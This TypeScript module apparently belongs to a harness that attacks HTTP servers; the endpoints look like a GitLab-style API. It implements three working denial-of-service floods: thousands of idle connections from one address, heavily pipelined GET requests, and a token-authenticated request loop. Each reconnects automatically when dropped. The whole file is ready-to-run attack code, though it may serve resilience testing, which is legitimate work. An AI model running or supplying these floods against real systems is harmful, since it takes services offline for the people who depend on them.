import { connect, type Socket } from "node:net"
import { setTimeout as sleep } from "node:timers/promises"
import type { Attack } from "../Attack.ts"
import { addressOf, count, pauseMillis } from "../callers.ts"

interface Connecting {
  readonly number: number
  /** From which of the attackers' addresses each comes. */
  readonly callerOf: (index: number) => number
  /** What is done with each. */
  readonly use: (socket: Socket) => void
}

/** Opens a thousand connections a second up to a number, and each again when it is lost, until the process ends. */
const connections = async (url: string, { callerOf, number, use }: Connecting): Promise<void> => {
  const { hostname, port } = new URL(url)
  const keep = async (index: number): Promise<never> => {
    for (;;) {
      const socket = connect({ host: hostname, port: Number(port), localAddress: addressOf(callerOf(index)) })
      socket.on("error", () => {}).once("connect", () => use(socket))
      await new Promise((resolve) => socket.once("close", resolve))
      count(0)
      await sleep(pauseMillis)
    }
  }
  const kept: Array<Promise<never>> = []
  for (; kept.length < number; await sleep(10)) for (let some = 0; some < 10; some++) kept.push(keep(kept.length))
  await Promise.all(kept)
}

const silentConnections: Attack = {
  title: "15,000 connections of one address that ask nothing",
  prepare: async ({ url }) => {
    return () => connections(url, { number: 15_000, callerOf: () => 0, use: () => {} })
  }
}

/** Sends the same bytes as fast as they are taken, and throws away what comes. */
const flood = (bytes: Buffer) => (socket: Socket) => {
  const send = () => {
    while (!socket.destroyed && socket.write(bytes));
  }
  socket.on("drain", send).resume()
  send()
}

const pipelining: Attack = {
  title: "20 callers who ask and ask without waiting for an answer",
  prepare: async ({ url }) => {
    const requests = Buffer.from("GET /api/v4/projects HTTP/1.1\r\nHost: x\r\n\r\n".repeat(1_000))
    return () => connections(url, { number: 20, callerOf: (index) => index, use: flood(requests) })
  }
}

const manyCallers: Attack = {
  title: "3,000 connections of one user, who asks again with each answer",
  prepare: async ({ attacker, url }) => {
    const bytes = Buffer.from(`GET /api/v4/user HTTP/1.1\r\nHost: x\r\nPRIVATE-TOKEN: ${attacker.token}\r\n\r\n`)
    const use = (socket: Socket) => {
      socket.on("data", (chunk) => {
        if (chunk.includes("HTTP/1.1 ")) socket.write(bytes)
      })
      socket.write(bytes)
    }
    return () => connections(url, { number: 3_000, callerOf: () => 0, use })
  }
}

export const floods = { silentConnections, pipelining, manyCallers }
